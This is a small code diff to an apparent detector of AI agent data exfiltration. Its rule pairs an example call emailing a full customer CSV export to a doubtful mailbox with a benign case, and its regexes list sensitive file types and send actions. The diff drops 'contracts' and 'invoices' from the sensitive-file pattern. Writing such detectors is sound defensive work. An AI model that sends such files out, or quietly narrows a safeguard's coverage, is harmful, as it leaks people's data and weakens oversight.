@@ -62,7 +62,7 @@ export const placeholdersSent: Analyser = {
 };
 
 const valuableAttached = ruleOf('sent.valuables-attached', 'network_exfiltration', 'high', 'a database, payroll or list of people attached to a message to a free mailbox or doubtful host', call('send_email', { to: 'x@proton.me', attachments: ['exports/customers_full.csv'] }), call('send_email', { to: 'lena@example.com', attachments: ['exports/customers_full.csv'] }), `${T}T1048, T1567`);
-const VALUABLES = /(?:customer|clients?\b|employee|payroll|salar|contracts?\b|invoices|patient|members?\b|billing|financ|\btax|passport|credential|secret|passw|private|confidential|wallet|personnel|payments?\b|medical|users?[_-]|backup|dump|leads|crm)[^/]{0,60}\.(?:csv|xlsx?|json|sql|db|sqlite3?|tar|t?gz|zip|7z|bak|pdf|docx?|parquet|ndjson|dump)\b|\.(?:sql|dump|kdbx|pst|bak)(?:\.gz)?$/i;
+const VALUABLES = /(?:customer|clients?\b|employee|payroll|salar|patient|members?\b|billing|financ|\btax|passport|credential|secret|passw|private|confidential|wallet|personnel|payments?\b|medical|users?[_-]|backup|dump|leads|crm)[^/]{0,60}\.(?:csv|xlsx?|json|sql|db|sqlite3?|tar|t?gz|zip|7z|bak|pdf|docx?|parquet|ndjson|dump)\b|\.(?:sql|dump|kdbx|pst|bak)(?:\.gz)?$/i;
 
 const ATTACHES = /(?:^|_)(?:send|mail|email|message|upload|share|post|attach|slack|telegram|discord|gist|paste|forward|publish|sms|whatsapp|put_object|transfer)(?:_|$)/;
 const FILE_FIELD = /(?:^|_)(?:attach\w{0,6}|files?|paths?|file_?paths?|uploads?|media|documents?|source|local_?path)(?:_|$)/;
